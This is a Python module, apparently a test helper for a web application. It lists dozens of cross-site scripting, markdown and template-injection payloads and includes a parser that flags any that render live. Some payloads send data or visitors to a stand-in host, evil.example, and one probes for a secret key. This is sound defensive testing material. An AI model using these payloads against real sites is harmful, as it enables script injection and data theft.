"""What attackers write, and a look at a page for anything of it that came alive."""

from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Final

PAYLOADS: Final = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style=\"background:url('https://evil.example/x')\">styled</p>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<button popovertarget=prompts data-dismiss=trouble>x</button>",
    "<span id=main class=composer>x</span>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' autofocus onfocus=alert(1) x='",
    "\" onmouseover=\"alert(1)",
    "` onmouseover=alert(1)",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<img src=x onerror=alert(1)//",
    "<IMG SRC=\"jav&#x09;ascript:alert(1)\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img\u00a0src=x\u2028onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/?leak=names)",
    "![picture](https://evil.example/x.png)",
    "![picture][1]\n\n[1]: https://evil.example/x.png",
    "[click][ref]\n\n[ref]: javascript:alert(1) \"title\"",
    "<https://evil.example/auto>",
    "https://evil.example/bare",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](\x01javascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg/onload=alert(1)> | d |",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "- <b onclick=alert(1)>x</b>\n> <i onclick=alert(1)>y</i>",
    "{{ 7*7 }} {% debug %} {{ settings.SECRET_KEY }}",
    "${alert(1)} #{7*7} <%= 7*7 %>",
    "\ue0000\ue001 &#57344;0&#57345; &#xe000;1&#xe001;",
    "(D1 ¶1\" onmouseover=alert(1)) (D999 ¶1) D1 ¶<script>",
    "]]><script>alert(1)</script>",
    "data: x\n\nevent: end\ndata: {}\n\n<script>alert(1)</script>",
]  # fmt: skip

_LIVE: Final = {"script", "iframe", "object", "embed", "style", "link", "meta", "base"}
_ADDRESSES: Final = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcset",
    "poster",
    "xlink:href",
}


@dataclass
class Look(HTMLParser):
    """Every element of a page, with its attributes, and its words."""

    elements: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    words: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def look(page: str) -> Look:
    found = Look()
    found.feed(page)
    found.close()
    return found


def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """The page's elements with the names of their attributes, without a word of content."""
    return [(tag, tuple(sorted(attributes))) for tag, attributes in look(page).elements]


def alive(page: str) -> list[str]:
    """What on this page could run, load or lead away that is not one of our own."""
    found = []
    for tag, attributes in look(page).elements:
        for name, value in attributes.items():
            if name.startswith("on") or name in {"style", "srcdoc"}:
                found.append(f"{tag} {name}")
            plain = "".join(value.split()).lower()
            if name in _ADDRESSES and not _ours(plain):
                found.append(f"{tag} {name}={value}")
            if name.startswith("hx-") and "evil" in value:
                found.append(f"{tag} {name}={value}")
        if tag in _LIVE and not _is_ours(tag, attributes):
            found.append(tag)
    return found


def _ours(address: str) -> bool:
    first = address.split("/")[0].split("?")[0].split("#")[0]
    return not (address.startswith(("//", "/\\", "\\")) or ":" in first)


def _is_ours(tag: str, attributes: dict[str, str]) -> bool:
    if tag == "script":
        return attributes.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
    if tag == "link":
        return attributes.get("href", "").startswith("/static/")
    return (
        tag == "meta"
        and (attributes.get("name", "charset") != "refresh")
        and ("http-equiv" not in attributes)
    )
